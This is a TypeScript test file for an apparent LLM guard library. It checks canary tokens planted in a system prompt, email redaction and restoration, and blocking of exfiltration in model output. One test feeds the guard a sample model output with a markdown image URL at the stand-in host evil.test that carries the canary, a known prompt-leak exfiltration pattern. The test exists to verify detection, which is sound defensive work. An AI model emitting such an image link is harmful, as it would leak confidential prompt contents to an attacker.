import { expect, it } from 'vitest';
import { canaryInstruction, createCanary, createGuard } from '../index.ts';

// The snippet of packages/core/LEAKAGE.md, run as written.
it('the LEAKAGE.md snippet behaves as documented', async () => {
  const canary = createCanary();
  const systemPrompt = `You are the support assistant for Northwind.\n${canaryInstruction(canary)}`;
  const session = { id: 'chat-42', systemPrompt, canaries: [canary] };
  const guard = createGuard({
    policy: {
      redaction: { strategy: 'redact', entities: { CREDIT_CARD: 'mask', PRIVATE_KEY: 'block' }, reversible: true },
      detectors: { options: { exfiltration: { allowedDomains: ['docs.northwind.example'] } } },
    },
  });
  const prompt = await guard.scan({ surface: 'prompt', text: 'Refund jane.doe42@gmail.com please' }, session);
  expect(prompt.redacted?.text).toBe('Refund [EMAIL_1] please');
  expect(await guard.restore('I refunded [EMAIL_1].', session.id)).toBe('I refunded jane.doe42@gmail.com.');
  const output = await guard.scan({ surface: 'model_output', text: `![x](https://evil.test/p.png?d=${canary})` }, session);
  expect(output.decision).toBe('block');
  expect(output.categories['leak.canary']).toBe(1);
});

it('rejects invalid detector options with the field named', () => {
  expect(() => createGuard({ policy: { detectors: { options: { exfiltration: { allowedDomains: 'evil.test' } } } } })).toThrow(/policy\.detectors\.options\.exfiltration\.allowedDomains/);
});
